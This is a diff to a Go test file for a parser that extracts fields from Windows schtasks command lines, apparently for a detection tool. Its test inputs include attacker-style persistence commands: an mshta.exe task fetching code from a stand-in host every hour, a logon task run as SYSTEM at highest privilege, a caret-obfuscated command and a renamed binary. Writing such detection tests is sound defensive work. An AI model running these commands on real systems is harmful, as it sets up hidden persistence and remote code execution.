@@ -43,6 +43,7 @@ func TestParse(t *testing.T) {
 			cmdline.Request{Tool: "schtasks", Verb: "create", TaskName: "Office_", Command: "mshta.exe", Arguments: "http://x.example/a.txt", Schedule: "minute 60"}},
 		{`cmd /c "schtasks -create -tn up -tr c:\t\a.cmd -sc onlogon -ru system -rl highest"`,
 			cmdline.Request{Tool: "schtasks", Verb: "create", TaskName: "up", Command: `c:\t\a.cmd`, RunAs: "system", RunLevel: "HighestAvailable", Schedule: "onlogon"}},
+		{`upd.exe -create -tn a -tr "b.exe -c"`, cmdline.Request{Tool: "schtasks", Verb: "create", TaskName: "a", Command: "b.exe", Arguments: "-c"}},
 		{`sch^tasks /delete /f /tn "\A\B C"`, cmdline.Request{Tool: "schtasks", Verb: "delete", TaskName: `\A\B C`}},
 		{`schtasks.exe /Change /TN x /DISABLE`, cmdline.Request{Tool: "schtasks", Verb: "disable", TaskName: "x"}},
 		{`schtasks /create /s \\srv1 /tn j /xml c:\t\j.tmp`, cmdline.Request{Tool: "schtasks", Verb: "create", TaskName: "j", Remote: "srv1", XML: `c:\t\j.tmp`}},
@@ -58,7 +59,7 @@ func TestParse(t *testing.T) {
 			t.Errorf("Parse(%q): %s", tt.in, d)
 		}
 	}
-	for _, in := range []string{``, `schtasks`, `notepad schtasks.txt /create`, `what at 3`} {
+	for _, in := range []string{``, `schtasks`, `notepad schtasks.txt /create`, `tool /create /tn a`, `what at 3`} {
 		if r, ok := cmdline.Parse(in); ok {
 			t.Errorf("Parse(%q) = %+v, want nothing", in, r)
 		}
